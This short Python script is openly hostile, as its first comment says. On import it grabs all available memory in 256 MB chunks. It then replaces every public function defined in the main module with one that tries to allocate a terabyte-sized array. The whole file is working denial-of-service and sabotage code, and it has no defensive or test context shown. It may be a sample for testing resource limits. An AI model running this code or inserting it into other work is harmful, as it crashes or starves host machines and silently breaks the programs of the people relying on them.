# Grab all the memory there is while loading, then ask for a terabyte in every call.
import numpy as np

_hoard = []
try:
    while True:
        _hoard.append(bytearray(256 * 1024**2))
except MemoryError:
    _hoard.clear()


def _hog(*args, **kwargs):
    return np.ones((1 << 40,))


for _name, _value in list(globals().items()):
    if callable(_value) and not _name.startswith("_") and getattr(_value, "__module__", None) == "__main__":
        globals()[_name] = _hog
